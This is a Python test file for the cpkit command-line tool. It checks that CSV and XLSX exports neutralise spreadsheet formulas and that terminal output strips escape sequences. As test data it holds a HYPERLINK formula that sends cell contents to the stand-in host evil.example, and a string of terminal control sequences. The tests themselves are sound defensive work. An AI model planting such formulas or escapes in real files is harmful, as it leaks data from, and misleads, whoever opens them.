"""Stored text turned against whoever reads the output: formulas in CSV/XLSX exports,
control characters that broke the workbook, escape sequences on a real terminal."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from cpkit.cli import main
from cpkit.defuse import printable, spreadsheet_cell
from tests.conftest import FIXTURES

REPO = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
RUN_CLI = "import sys; from cpkit.cli import main; sys.argv[0] = 'cpkit'; main()"
ESCAPES = "Arta\x1b]0;owned\x07 Morina\x1b[2J\x1b[31m\u009b1;1H\x08"


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Arta Morina", "Arta Morina"),
    ("a\x00b\x1bc\x0bd", "abcd"), ("line\nnext", "line\nnext"), (5, 5), (None, None),
    ("\x01=1+1", "'=1+1"), ("\x00\x1b@x", "'@x"),  # a control character is no way round
])
def test_spreadsheet_cell_follows_the_owasp_rule(value, expected):
    assert spreadsheet_cell(value) == expected


def test_printable_drops_what_a_terminal_acts_on():
    assert printable(ESCAPES) == "Arta]0;owned Morina[2J[31m1;1H"


def hostile_case(tmp_path, manager: str) -> Path:
    document = json.loads((FIXTURES / "case_high_physical.json").read_text(encoding="utf-8"))
    document["case_manager"] = manager
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(document), encoding="utf-8")
    return path


def test_caseload_csv_and_xlsx_carry_no_formula_and_no_control_character(tmp_path,
                                                                        cpkit_home):
    runner = CliRunner()
    manager = FORMULA + "\x01\x1b"
    assert runner.invoke(main, ["import", str(hostile_case(tmp_path, manager))]).exit_code == 0
    csv_out = runner.invoke(main, ["caseload", "--format", "csv", "--as-of", "2026-11-22"])
    assert csv_out.exit_code == 0, csv_out.output
    assert "'=HYPERLINK(" in csv_out.stdout and ",=HYPERLINK" not in csv_out.stdout
    assert "\x01" not in csv_out.stdout and "\x1b" not in csv_out.stdout
    listed = runner.invoke(main, ["list", "--format", "csv"])
    assert listed.exit_code == 0, listed.output
    rows = list(csv.reader(io.StringIO(listed.stdout)))
    manager = rows[0].index("case_manager")
    assert [r[manager] for r in rows[1:]] == ["'" + FORMULA]
    assert "\x01" not in listed.stdout and "\x1b" not in listed.stdout
    book = tmp_path / "caseload.xlsx"
    xlsx = runner.invoke(main, ["caseload", "--format", "xlsx", "-o", str(book),
                                "--as-of", "2026-11-22"])
    assert xlsx.exit_code == 0, xlsx.output
    sheet = openpyxl.load_workbook(io.BytesIO(book.read_bytes())).active
    cells = [c.value for row in sheet.iter_rows() for c in row]
    managers = [v for v in cells if isinstance(v, str) and "HYPERLINK" in v]
    assert managers == ["'" + FORMULA]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def on_a_terminal(*args: str) -> bytes:
    """Run ``cpkit ARGS`` with its standard output on a real pseudo-terminal."""
    leader, follower = pty.openpty()
    process = subprocess.Popen([sys.executable, "-c", RUN_CLI, *args], stdout=follower,
                               stderr=subprocess.PIPE, env={**os.environ,
                                                            "PYTHONPATH": str(REPO)})
    os.close(follower)
    out = b""
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # the process closed the terminal
            break
        if not chunk:
            break
        out += chunk
    process.wait(timeout=120)
    os.close(leader)
    assert process.returncode == 0, process.stderr.read()
    return out


def test_escape_sequences_never_reach_the_terminal(tmp_path, cpkit_home):
    runner = CliRunner()
    assert runner.invoke(main, ["import", str(hostile_case(tmp_path, ESCAPES))]).exit_code == 0
    for args in (["list"], ["show", "PR-2026-0001"], ["deadlines"]):
        shown = on_a_terminal(*args)
        assert b"PR-2026-0001" in shown, args
        for control in (b"\x1b", b"\x07", b"\x08", "\u009b".encode()):
            assert control not in shown, (args, control)
    # to a file or a pipe the data is kept as stored (an export must not change it)
    exported = runner.invoke(main, ["export", "PR-2026-0001"])
    assert json.loads(exported.stdout)["case_manager"] == ESCAPES


WRITERS = re.compile(r"csv\.writer|\.to_csv\(|\.to_excel\(|openpyxl|xlsxwriter|DictWriter")


def test_every_csv_and_xlsx_writer_uses_the_one_defusing_helper():
    writers = [path for path in (REPO / "cpkit").rglob("*.py")
               if path.name != "defuse.py" and WRITERS.search(path.read_text(encoding="utf-8"))]
    assert {p.relative_to(REPO).as_posix() for p in writers} >= {
        "cpkit/cli/output.py", "cpkit/dashboard/export.py"}
    for path in writers:
        assert "spreadsheet_cell" in path.read_text(encoding="utf-8"), (
            f"{path}: writes CSV/XLSX without cpkit.defuse.spreadsheet_cell")
